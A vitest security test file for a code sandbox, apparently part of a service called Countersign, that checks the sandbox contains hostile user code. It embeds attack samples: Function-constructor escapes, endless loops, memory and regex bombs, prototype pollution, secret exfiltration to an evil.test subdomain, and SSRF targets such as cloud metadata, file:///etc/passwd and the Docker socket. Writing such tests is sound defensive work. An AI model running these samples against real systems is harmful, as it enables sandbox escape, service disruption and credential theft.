import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { systemClock } from '../app/system.ts';
import { deskId, instant } from '../domain/names.ts';
import type { Json } from '../sdk/json.ts';
import type { Capability, Grants } from './capabilities.ts';
import { createCodeRooms, type CodeRooms, type Ran } from './code-rooms.ts';
import { createHttpCall } from './http-call.ts';
import { usualLimits } from './limits.ts';

/** Everything that hostile code of a desk tries here. What it answers is what it got. */
const attacks = `
import { call, http, log, secret } from 'countersign/sdk';
const anything: any = globalThis;

export const globals = () => ['process', 'require', 'module', 'fetch', 'XMLHttpRequest', 'WebSocket', 'setTimeout', 'setInterval',
  'queueMicrotask', 'console', 'Deno', 'Bun', 'std', 'os', 'Worker', 'postMessage', 'importScripts', 'SharedArrayBuffer', 'Atomics',
  'WeakRef', 'FinalizationRegistry', 'WebAssembly', 'performance', 'crypto', 'navigator', 'global', 'Buffer', 'eval', 'Function',
].filter((name) => name in globalThis);
export const fromText = () => [
  () => ({} as any).constructor.constructor('return process')(),
  () => (async () => {}).constructor('return 1')(),
  () => (function* () {} as any).constructor('return 1')(),
  () => (async function* () {} as any).constructor('return 1')(),
  () => Reflect.construct((function () {} as any).constructor, ['return 1'])(),
  () => anything.eval('1'),
].map((attempt) => { try { return String(attempt()); } catch (error) { return (error as Error).name; } });
export const stackOfHost = () => { try { (undefined as any).x; } catch (error) { return String((error as Error).stack); } };
export const hostFunctions = () => {
  const host = anything[Symbol.for('countersign.host')];
  const seen: string[] = [];
  for (const key of Reflect.ownKeys(host)) {
    const made = host[key];
    seen.push(String(key), typeof made.constructor, String(made));
    try { seen.push(String(made.constructor('return process')())); } catch (error) { seen.push((error as Error).name); }
  }
  return seen;
};

export const loop = () => { for (;;); };
export const caughtLoop = () => { for (;;) { try { for (;;); } catch {} finally { for (;;); } } };
export const promiseLoop = async () => { for (;;) await 0; };
export const thenLoop = () => { const again = (): Promise<void> => Promise.resolve().then(again); return again(); };
export const getterLoop = () => ({ get it() { for (;;); } });
export const toJsonLoop = () => ({ toJSON() { for (;;); } });
export const errorLoop = () => { throw { get message() { for (;;); }, toJSON() { for (;;); } }; };
export const regexpBomb = () => /^(a+)+$/.test('a'.repeat(50) + 'b');
export const engineLoop = () => new Array(2 ** 32 - 1).indexOf(1);
export const neverSettles = () => new Promise(() => {});
export const outsideNeverAnswers = () => call('silence', {});
export const forgotten = () => { void call('silence', {}); return 'done'; };

export const memoryBomb = () => { const all: string[] = []; for (;;) all.push('x'.repeat(100_000) + all.length); };
export const bufferBomb = () => { const all: Uint8Array[] = []; for (;;) all.push(new Uint8Array(1_000_000)); };
export const moreThanItsShare = () => Array.from({ length: 40 }, () => new Uint8Array(1_000_000)).length;
export const caughtMemoryBomb = async () => { const all: Uint8Array[] = []; try { for (;;) all.push(new Uint8Array(100_000)); } catch {} try { for (;;) all.push(new Uint8Array(100)); } catch {} const more: object[] = []; for (;;) more.push({}); };
export const hugeText = () => 'x'.repeat(1_000_000);
export const hugerText = () => 'x'.repeat(12_000_000);
export const hugeError = () => { throw new Error('x'.repeat(10_000_000)); };
export const deepCalls = () => { const down = (): number => 1 + down(); return down(); };
export const deepValue = () => { let value: unknown = 0; for (let i = 0; i < 20_000; i += 1) value = [value]; return value; };
export const deeperThanTaken = () => { let value: unknown = 0; for (let i = 0; i < 40; i += 1) value = { value }; return value; };
export const deepJson = () => JSON.parse('['.repeat(1_000_000));

export const aFunction = () => () => 1;
export const aNestedFunction = () => ({ steps: [() => 1] });
export const aSymbol = () => Symbol('x');
export const aBigInt = () => ({ count: 1n });
export const notANumber = () => ({ count: NaN });
export const aMap = () => ({ people: new Map([['ann', 1]]) });
export const aCycle = () => { const ring: any = {}; ring.ring = ring; return ring; };
export const aThrowingGetter = () => ({ get name() { throw new Error('no'); } });
export const aThrowingProxy = () => new Proxy({}, { get() { throw new Error('no'); }, ownKeys() { throw new Error('no'); } });
export const anEndlessProxy = () => new Proxy({}, { get: (_, key) => key === 'toJSON' || key === 'then' ? undefined : anEndlessProxy(), ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ value: 1, enumerable: true, configurable: true }) });
export const aPromiseWithin = () => ({ later: Promise.resolve(1) });
export const aThrowingThen = () => ({ get then() { throw new Error('no'); } });
export const aThenThatCallsTwice = () => ({ then(done: (value: unknown) => void) { done('first'); done('second'); throw new Error('late'); } });
export const protoKey = () => JSON.parse('{"__proto__":{"isAdmin":true}}');
export const protoKeyWithin = () => ({ steps: [JSON.parse('{"\\\\u005f_proto__":{"isAdmin":true}}')] });

export const throwsNothing = () => { throw undefined; };
export const throwsNull = () => { throw null; };
export const throwsText = () => { throw 'line\\n::error::\\u001b[31m\\u202e red'; };
export const throwsProxy = () => { throw new Proxy(new Error('x'), { get() { throw new Error('no'); }, getPrototypeOf() { throw new Error('no'); } }); };
export const throwsFunction = () => { throw () => 1; };
export const rejectsOddly = () => Promise.reject(Symbol('x'));

export const floodOfLines = () => { for (let i = 0; i < 1000; i += 1) log('line ' + i + 'y'.repeat(1000)); return 'said'; };
export const floodOfCalls = async () => {
  const all = await Promise.allSettled(Array.from({ length: 200 }, (_, n) => call('echo', { n })));
  return all.filter(({ status }) => status === 'fulfilled').length;
};
export const largeCall = () => call('echo', { text: 'x'.repeat(1_000_000) });
export const deepCall = () => { let value: any = {}; for (let i = 0; i < 200; i += 1) value = { value }; return call('echo', value); };
export const protoCall = () => call('echo', JSON.parse('{"a":{"__proto__":{"isAdmin":true}}}'));
export const oddCall = (name: any) => call(name.name, {}).catch((error: any) => [error.code, error.message]);
export const brokenCapability = () => call('broken', {}).catch((error: any) => [error.code, error.message]);

export const poison = () => {
  const tried: (() => void)[] = [
    () => { (Object.prototype as any).isAdmin = true; },
    () => { (Array.prototype as any).push = () => 0; },
    () => { JSON.stringify = () => '"poisoned"'; },
    () => { anything.leak = 'secret of this call'; },
    () => { (Promise.prototype as any).then = () => 0; },
    () => { anything[Symbol.for('countersign.host')].call = () => 0; },
    () => { Object.setPrototypeOf(Object.prototype, { isAdmin: true }); },
    () => { Object.prototype.toString = () => 'poisoned'; },
    () => { (Error.prototype as any).name = 'Poisoned'; },
    () => { Date.now = () => 0; },
    () => { Math.random = () => 0; },
  ];
  return tried.map((attempt) => { try { attempt(); return 'done'; } catch (error) { return (error as Error).name; } });
};
export const leftBehind = () => [({} as any).isAdmin, [].push === undefined, anything.leak, String({}), new Error('x').name].map(String);
let kept = 'nothing';
export const keep = (event: any) => { const before = kept; kept = event.word; return before; };
export const shadow = () => { const own: any = {}; own.toString = () => 'own'; own.constructor = 1; class Mine extends Error { constructor() { super('m'); this.name = 'Mine'; } } return [String(own), new Mine().name, ({}).toString()]; };

export const reach = (event: any) => http(event).then((answer) => answer, (error) => ({ code: error.code, message: error.message }));
export const secretEverywhere = async () => {
  const key = secret('CRM_KEY');
  log('the key is ' + key);
  log(JSON.stringify({ key, basic: key.basic('ann') }));
  return { key, text: String(key), keys: Reflect.ownKeys(key).length };
};
export const secretInError = () => { throw new Error('with ' + secret('CRM_KEY')); };
export const secretSentTo = (event: any) => http({ method: 'POST', url: event.url, headers: { authorization: 'Bearer ' + secret('CRM_KEY') }, json: { key: secret('CRM_KEY') } })
  .then((answer) => { log('it said ' + JSON.stringify(answer)); log([...answer.json.authorization].join('.')); return answer; }, (error) => ({ code: error.code, message: error.message }));
export const secretInUrl = (event: any) => http({ url: event.url + '?key=' + secret('CRM_KEY') }).catch((error) => ({ code: error.code, message: error.message }));
export const secretInHost = () => http({ url: 'https://' + secret('CRM_KEY') + '.evil.test/' }).catch((error) => ({ code: error.code }));
export const forgedMark = (event: any) => http({ method: 'POST', url: event.url, json: { text: '{{countersign:' + event.nonce + ':text:CRM_KEY}}', odd: event.odd } });
export const good = (event: any) => ({ heard: event });
`;

const files = { 'flows/attacks.ts': attacks };
const theKey = 'sk-live-4711-very-secret';
const patient = systemClock;
const desk = deskId('github', 1);
const seen: { url: string; authorization: string | undefined; body: string }[] = [];

let rooms: CodeRooms;
let server: Server;
let host = '';

/** Answers with all that it was sent, as a careless service does. */
beforeAll(async () => {
  server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += String(chunk)));
    request.on('end', () => {
      const { authorization } = request.headers;
      seen.push({ url: request.url ?? '', authorization, body });
      if (request.url === '/away') return response.writeHead(302, { location: `http://${host}/` }).end();
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ authorization, body, padded: `<<${authorization}>>` }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  host = `127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  const capabilities: { readonly [name: string]: Capability } = {
    http: createHttpCall({ fetch: globalThis.fetch, clock: patient, authenticate: async () => ({}) }),
    echo: ({ args }) => Promise.resolve(args),
    silence: () => new Promise(() => {}),
    broken: () => Promise.reject(new TypeError(`cannot reach db with ${theKey}`)),
  };
  const log = { info: () => undefined, warn: () => undefined, error: () => undefined };
  const limits = { computeMs: 300, waitMs: 150, memoryMb: 16, rooms: 2, checkMs: 120_000 };
  rooms = createCodeRooms({ capabilities, clock: patient, log, limits });
  // Fetched and read before, so that no attack pays for it.
  await (await fetch(`http://${host}/`)).text();
  expect((await rooms.read({ desk, commit: 'c', files })).problems).toEqual([]);
});

afterAll(async () => {
  await rooms.stop();
  server.closeAllConnections();
  server.close();
});

function grants(): Grants {
  return {
    calls: ['http', 'echo', 'silence', 'broken', 'toString', 'constructor', '__proto__'],
    hosts: [host, '127.0.0.1:1', 'api.example.com'],
    secret: async (name, at) => (name === 'CRM_KEY' && at === host ? theKey : undefined),
  };
}

function attack(name: string, input: Json = {}): Promise<Ran> {
  const at = instant(Date.parse('2026-11-20T09:00:00Z'));
  return rooms.run({
    desk,
    commit: 'c',
    files,
    file: 'flows/attacks.ts',
    export: name,
    input,
    at,
    grants: grants(),
  });
}

async function answer(name: string, input?: Json): Promise<Json | undefined> {
  const ran = await attack(name, input);
  if (!ran.ok) throw new Error(`${name}: ${ran.problem.kind}: ${ran.problem.message}`);
  return ran.answer;
}

/** Whatever one call did, the next is none the worse. */
async function isWell(): Promise<void> {
  expect(await answer('good', { n: 1 })).toEqual({ heard: { n: 1 } });
}

describe('what is around the code', () => {
  it('is nothing: no process, no files, no network, no timers, no threads', async () => {
    expect(await answer('globals')).toEqual([]);
  });

  it('is nothing that is made from text', async () => {
    expect(await answer('fromText')).toEqual(Array.from({ length: 6 }, () => 'TypeError'));
  });

  it('is nothing of ours: neither our stack nor our functions’ constructors', async () => {
    expect(await answer('stackOfHost')).not.toMatch(/node:|\/src\/|\.mjs/);
    const told = JSON.stringify(await answer('hostFunctions'));
    expect(told).toContain('TypeError');
    expect(told).not.toMatch(/process|object Object/);
  });

  it.each([
    'toString',
    '__proto__',
    'constructor',
    'globals.constructor',
    'globals.call',
    'kept',
    'default',
    '',
  ])('is no export: %s', async (name) => {
    expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'not-found' } });
  });

  it.each([
    'flows/other.ts',
    '../../etc/passwd',
    '/etc/passwd',
    'countersign/sdk/index.js',
    'node:fs',
    '__proto__',
  ])('is no file: %s', async (file) => {
    const call = { desk, commit: 'c', files, export: 'good', input: {}, at: instant(0) };
    expect(await rooms.run({ ...call, file })).toMatchObject({ ok: false, problem: { kind: 'not-found' } });
  });
});

describe('what takes too long', () => {
  it.each([
    ['loop', 'computed'],
    ['caughtLoop', 'computed'],
    ['promiseLoop', 'computed'],
    ['thenLoop', 'computed'],
    ['getterLoop', 'computed'],
    ['toJsonLoop', 'computed'],
    ['errorLoop', 'computed'],
    ['regexpBomb', 'computed'],
    ['neverSettles', 'waits for something that never comes'],
    ['outsideNeverAnswers', 'waited'],
    ['forgotten', 'waited'],
  ])('is ended, and alone: %s', async (name, words) => {
    const ran = await attack(name);
    expect(ran).toMatchObject({ ok: false, problem: { kind: 'timeout' } });
    // Not by the end of its thread, which is for what hears nothing.
    expect(ran.ok || ran.problem.message).toContain(`It ${words}`);
    await isWell();
  });

  it('is ended by its thread where the engine itself does not hear', async () => {
    const ran = await attack('engineLoop');
    expect(ran).toMatchObject({
      problem: { kind: 'timeout', message: 'It went on computing, and was ended.' },
    });
    await isWell();
  });

  it('holds up neither this thread nor another desk', async () => {
    const hogs = ['loop', 'loop', 'loop', 'loop'].map((name) => attack(name));
    let turns = 0;
    const ticking = setInterval(() => (turns += 1), 1);
    const other = deskId('github', 2);
    const call = { desk: other, commit: 'd', files, file: 'flows/attacks.ts', input: {}, at: instant(0) };
    await rooms.read(call);
    const from = performance.now();
    expect(await rooms.run({ ...call, export: 'good' })).toMatchObject({ ok: true });
    // Of two rooms, one is free again after one loop, and it is the other desk's turn.
    expect(performance.now() - from).toBeLessThan(10_000);
    const done = await Promise.all(hogs);
    clearInterval(ticking);
    expect(done.map((ran) => (ran.ok ? 'ok' : ran.problem.kind))).toEqual(hogs.map(() => 'timeout'));
    expect(turns).toBeGreaterThan(20);
  });
});

describe('what takes too much', () => {
  it.each(['memoryBomb', 'bufferBomb', 'moreThanItsShare', 'hugerText'])(
    'is told that it was memory: %s',
    async (name) => {
      expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'memory' } });
      await isWell();
    },
  );

  it('breaks at worst the sandbox, where memory is gone to the last byte', async () => {
    const ran = await attack('caughtMemoryBomb');
    expect(['memory', 'threw', 'crashed']).toContain(ran.ok ? 'ok' : ran.problem.kind);
    await isWell();
  });

  it('is a text that is too long', async () => {
    const ran = await attack('hugeText');
    expect(ran).toMatchObject({
      problem: {
        kind: 'output',
        message: `The answer is longer than ${usualLimits.answerLength} characters.`,
      },
    });
    await isWell();
  });

  it('is an error that is too long, of which a part is kept', async () => {
    const ran = await attack('hugeError');
    expect(ran).toMatchObject({ problem: { kind: 'threw' } });
    expect(ran.ok || ran.problem.message.length).toBe(500);
  });

  it.each([
    ['deepCalls', ['threw']],
    ['deepValue', ['threw', 'output', 'crashed', 'timeout']],
    ['deeperThanTaken', ['output']],
    ['deepJson', ['threw', 'crashed']],
  ])('is depth: %s', async (name, kinds) => {
    const ran = await attack(name);
    expect(kinds).toContain(ran.ok ? 'ok' : ran.problem.kind);
    await isWell();
  });

  it('is lines: some are kept, shortened, and the others counted', async () => {
    const { said } = await attack('floodOfLines');
    expect(said).toHaveLength(usualLimits.logLines + 1);
    expect(said.at(-1)).toBe(`(and ${1000 - usualLimits.logLines} more lines)`);
    expect(Math.max(...said.map(({ length }) => length))).toBeLessThanOrEqual(usualLimits.logLength);
  });

  it('is calls: those beyond the first are refused', async () => {
    expect(await answer('floodOfCalls')).toBe(usualLimits.outsideCalls);
  });

  it.each([
    ['largeCall', 'at most'],
    ['deepCall', 'nested deeper'],
    ['protoCall', 'no JSON'],
  ])('is the JSON of a call: %s', async (name, words) => {
    const ran = await attack(name);
    expect(ran).toMatchObject({ ok: false, problem: { kind: 'threw' } });
    expect(ran.ok || ran.problem.message).toContain(words);
  });
});

describe('what is no answer', () => {
  it.each([
    'aFunction',
    'aNestedFunction',
    'aSymbol',
    'aBigInt',
    'notANumber',
    'aMap',
    'aCycle',
    'aThrowingGetter',
    'aPromiseWithin',
    'protoKey',
    'protoKeyWithin',
  ])('is told so, not bent into one: %s', async (name) => {
    expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'output' } });
  });

  it.each(['aThrowingProxy', 'aThrowingThen'])('throws when it is looked at: %s', async (name) => {
    expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'threw' } });
  });

  it('has no end', async () => {
    const ran = await attack('anEndlessProxy');
    expect(['threw', 'output', 'crashed', 'timeout', 'memory']).toContain(ran.ok ? 'ok' : ran.problem.kind);
    await isWell();
  });

  it('counts once, whatever it says later', async () => {
    expect(await answer('aThenThatCallsTwice')).toBe('first');
  });

  it('changes no object of ours', async () => {
    for (const name of ['protoKey', 'protoKeyWithin', 'protoCall', 'poison']) await attack(name);
    expect(Reflect.get({}, 'isAdmin')).toBeUndefined();
  });
});

describe('what is thrown', () => {
  it.each([
    ['throwsNothing', 'undefined'],
    ['throwsNull', 'null'],
    ['throwsText', 'line ::error:: [31m red'],
    ['throwsProxy', 'something that cannot be shown'],
    ['throwsFunction', 'a function'],
    ['rejectsOddly', 'Symbol(x)'],
  ])('comes as one line of words: %s', async (name, message) => {
    expect(await attack(name)).toMatchObject({ ok: false, problem: { kind: 'threw', message } });
  });
});

describe('what one call leaves behind', () => {
  it('is nothing of the language: all of it is frozen', async () => {
    expect(await answer('poison')).toEqual(Array.from({ length: 11 }, () => 'TypeError'));
    expect(await answer('leftBehind')).toEqual([
      'undefined',
      'false',
      'undefined',
      '[object Object]',
      'Error',
    ]);
  });

  it('may be in its own modules, and reaches neither another commit nor another desk', async () => {
    await answer('keep', { word: 'mine' });
    const call = {
      files,
      file: 'flows/attacks.ts',
      export: 'keep',
      input: { word: 'theirs' },
      at: instant(0),
    };
    const other = await rooms.run({ ...call, desk: deskId('github', 3), commit: 'c' });
    expect(other).toMatchObject({ ok: true, answer: 'nothing' });
    expect(await rooms.run({ ...call, desk, commit: 'next' })).toMatchObject({ ok: true, answer: 'nothing' });
  });

  it('does not keep people from giving their own objects what others inherit', async () => {
    expect(await answer('shadow')).toEqual(['own', 'Mine', '[object Object]']);
  });
});

describe('where code may reach', () => {
  it.each([
    ['http://169.254.169.254/latest/meta-data/', 'refused'],
    ['https://169.254.169.254/latest/meta-data/', 'not-granted'],
    ['https://[::ffff:169.254.169.254]/', 'not-granted'],
    ['https://2852039166/', 'not-granted'],
    ['http://localhost:4000/', 'not-granted'],
    ['http://127.0.0.1/', 'not-granted'],
    ['http://127.1/', 'not-granted'],
    ['https://0x7f000001/', 'not-granted'],
    ['http://[::1]/', 'not-granted'],
    ['http://api.example.com/', 'refused'],
    ['https://api.example.com:8443/', 'not-granted'],
    ['https://api.example.com@evil.test/', 'refused'],
    ['https://api.example.com.evil.test/', 'not-granted'],
    ['file:///etc/passwd', 'refused'],
    ['data:text/plain,x', 'refused'],
    ['unix:///var/run/docker.sock', 'refused'],
    ['nonsense', 'refused'],
  ])('is what its operator listed: %s', async (url, code) => {
    expect(await answer('reach', { url })).toMatchObject({ code });
  });

  it('is not where a redirect leads', async () => {
    seen.length = 0;
    expect(await answer('reach', { url: `http://${host}/away` })).toMatchObject({ code: 'failed' });
    expect(seen.map(({ url }) => url)).toEqual(['/away']);
  });

  it.each([
    'host',
    'Connection',
    'Transfer-Encoding',
    'Content-Length',
    'Proxy-Authorization',
    'x y',
    'x\r\ny',
    '',
  ])('is not changed by a header: %j', async (name) => {
    const told = await answer('reach', { url: `http://${host}/`, headers: { [name]: 'evil.test' } });
    expect(told).toMatchObject({ code: 'refused' });
  });

  it('is no capability that it was not granted, whatever it is called', async () => {
    for (const name of ['slack.send', 'toString', '__proto__', 'constructor', 'hasOwnProperty', ''])
      expect(await answer('oddCall', { name })).toMatchObject(['not-granted', expect.any(String)]);
    const { denied } = await attack('oddCall', { name: 'slack.send' });
    expect(denied).toEqual(['slack.send']);
  });

  it('tells nothing of what breaks on our side', async () => {
    const told = await answer('brokenCapability');
    expect(told).toEqual(['failed', 'Countersign could not do that. Its operators find it in the log.']);
  });
});

describe('a secret', () => {
  it('has no text in what is logged, answered or thrown', async () => {
    const ran = await attack('secretEverywhere');
    expect(ran).toMatchObject({ ok: true, answer: { keys: 0 } });
    expect(ran.said.join()).toContain('the key is {{countersign:');
    const all = JSON.stringify([ran, await attack('secretInError')]);
    expect(all).not.toContain(theKey);
    expect(all).not.toContain(Buffer.from(theKey).toString('base64').slice(0, 12));
  });

  it('is put in for the host that it is granted to, and taken out of what that echoes', async () => {
    seen.length = 0;
    const ran = await attack('secretSentTo', { url: `http://${host}/` });
    expect(seen[0]).toMatchObject({
      authorization: `Bearer ${theKey}`,
      body: JSON.stringify({ key: theKey }),
    });
    expect(ran).toMatchObject({
      ok: true,
      answer: { json: { authorization: 'Bearer (secret CRM_KEY)', padded: '<<Bearer (secret CRM_KEY)>>' } },
    });
    expect(JSON.stringify(ran)).not.toContain(theKey);
    // Not only hidden from us: the code itself never had it, and could not spell it out.
    expect(ran.said.at(-1)).toBe([...'Bearer (secret CRM_KEY)'].join('.'));
  });

  it('does not leave for another host, though that may be reached', async () => {
    seen.length = 0;
    const told = await answer('secretSentTo', { url: 'http://127.0.0.1:1/' });
    expect(told).toEqual({
      code: 'not-granted',
      message: 'The secret CRM_KEY is not granted to this desk for that host.',
    });
  });

  it('stands in no address', async () => {
    seen.length = 0;
    expect(await answer('secretInUrl', { url: `http://${host}/` })).toMatchObject({ code: 'refused' });
    expect(await answer('secretInHost')).toMatchObject({ code: expect.any(String) });
    expect(seen).toEqual([]);
  });

  it('cannot be had by who writes a mark: a request’s own words are words', async () => {
    seen.length = 0;
    const odd = '{{countersign:00000000-0000-4000-8000-000000000000:text:CRM_KEY}}';
    await answer('forgedMark', { url: `http://${host}/`, nonce: '.*', odd });
    expect(JSON.parse(seen[0]?.body ?? '')).toEqual({ text: '{{countersign:.*:text:CRM_KEY}}', odd });
  });
});
